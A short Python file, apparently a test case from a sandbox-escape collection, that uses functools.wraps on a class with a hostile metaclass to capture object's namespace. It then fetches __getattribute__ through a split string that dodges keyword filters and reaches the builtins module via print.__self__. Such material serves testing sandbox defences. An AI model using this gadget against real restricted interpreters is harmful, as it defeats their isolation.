# wraps as the decorator of a class whose metaclass answers for its namespace.
# reaches: builtins
from functools import wraps
found = []


class Collect:
    def update(self, namespace):
        found.append(namespace)


class Meta(type):
    def __getattribute__(cls, name):
        return Collect()

    def __setattr__(cls, name, value):
        pass


@wraps(object)
class Target(metaclass=Meta):
    pass


read = found[0]["__getattri" + "bute__"]
REACHED = read(print, "__self__")
